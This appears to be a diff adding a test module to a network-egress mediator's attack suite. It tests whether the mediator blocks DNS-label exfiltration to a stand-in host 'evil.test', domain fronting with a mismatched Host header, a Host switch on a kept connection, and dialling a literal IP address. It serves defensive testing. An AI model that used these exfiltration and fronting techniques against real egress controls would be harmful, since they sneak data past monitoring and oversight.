@@ -1,0 +1,94 @@
+"""Traps 2, 16, 18, 19: reach a host that the policy does not name, by its address or another's name."""
+
+from collections.abc import Callable
+from contextlib import AbstractContextManager, ExitStack
+from typing import Final
+from unittest.mock import patch
+
+from hark.errors import UpstreamError
+from hark.policy.decide import Allow
+from mediator import dns, gate, judgement
+from tests.attacks.registry import Outcome, Verdict, add
+from tests.mediator.rig import API, OTHER, running, served
+
+type Attempted = Callable[[], Outcome]
+
+ANYTHING: Final = Allow("the defence is taken away")
+
+
+def _outcome(reached: bool, detail: str) -> Outcome:
+    return Outcome(Verdict.SUCCEEDED if reached else Verdict.REFUSED, detail)
+
+
+def _dns_label() -> Outcome:
+    with running(API) as rig:
+        reply = rig.ask("c2VjcmV0.evil.test")
+        return _outcome(reply.header.rcode == 0, f"rcode {reply.header.rcode}")
+
+
+def _fronting(*paths: str) -> Outcome:
+    with served(OTHER) as (rig, upstream), rig.https() as client:
+        status = 0
+        for path in paths:
+            client.request("GET", path, headers={"Host": API if path == "/fine" else "evil.test"})
+            answer = client.getresponse()
+            answer.read()
+            status = answer.status
+        reached = any(seen.path == "/fronted" for seen in upstream.seen)
+        return _outcome(reached, f"status {status}")
+
+
+def _literal_address() -> Outcome:
+    with running(API) as rig, rig.dial("198.51.100.7", 80) as sock:
+        sock.sendall(b"GET / HTTP/1.1\r\nHost: 198.51.100.7\r\n\r\n")
+        first = sock.recv(200).partition(b"\r\n")[0]
+        # Undefended, the mediator dials: a test net, so 502 and not 403 is what reaching it looks like.
+        return _outcome(b" 403 " not in first, first.decode())
+
+
+async def _dialled(*_: object, **__: object) -> None:
+    raise UpstreamError("dialled")
+
+
+def _any_name() -> AbstractContextManager[object]:
+    return patch.object(dns, "decide_name", lambda *_: ANYTHING)
+
+
+def _any_request() -> AbstractContextManager[object]:
+    return patch.multiple(judgement, judge_request=lambda *_: ANYTHING, _host=lambda value, _: value)
+
+
+def _any_address() -> AbstractContextManager[object]:
+    return patch.multiple(gate, judge_dial=lambda *_: ANYTHING)
+
+
+def _no_network() -> AbstractContextManager[object]:
+    return patch("mediator.dial.Dialler.dial", _dialled)
+
+
+def _without(
+    run: Callable[[], Outcome], *defences: Callable[[], AbstractContextManager[object]]
+) -> Attempted:
+    def bare() -> Outcome:
+        with ExitStack() as stack:
+            for defence in defences:
+                stack.enter_context(defence())
+            return run()
+
+    return bare
+
+
+def _first() -> Outcome:
+    return _fronting("/fronted")
+
+
+def _later() -> Outcome:
+    return _fronting("/fine", "/fronted")
+
+
+LITERAL: Final = (_any_address, _any_request, _no_network)
+
+add(16, "carry data out in a DNS label", _dns_label, _without(_dns_label, _any_name))
+add(18, "an allowed SNI with another Host", _first, _without(_first, _any_request))
+add(19, "another Host later on a kept connection", _later, _without(_later, _any_request))
+add(2, "a literal address over HTTP", _literal_address, _without(_literal_address, *LITERAL))
